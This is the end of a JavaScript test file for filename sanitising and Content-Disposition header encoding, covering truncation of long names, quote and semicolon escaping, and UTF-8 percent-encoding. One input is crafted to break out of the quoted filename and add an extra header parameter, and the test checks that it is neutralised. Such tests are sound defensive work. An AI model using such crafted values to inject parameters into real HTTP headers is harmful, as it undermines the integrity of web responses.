    const long = sanitizeFilename(`${'x'.repeat(500)}.jpeg`);
    expect([...long].length).toBe(200);
    expect(long.endsWith('.jpeg')).toBe(true);
    expect(contentDisposition('plan "A"; x=1.pdf')).toBe(`attachment; filename="plan _A_; x=1.pdf"; filename*=UTF-8''plan%20%22A%22%3B%20x%3D1.pdf`);
    expect(contentDisposition('l’été.jpg')).toBe(`attachment; filename="l__t_.jpg"; filename*=UTF-8''l%E2%80%99%C3%A9t%C3%A9.jpg`);
  });
});

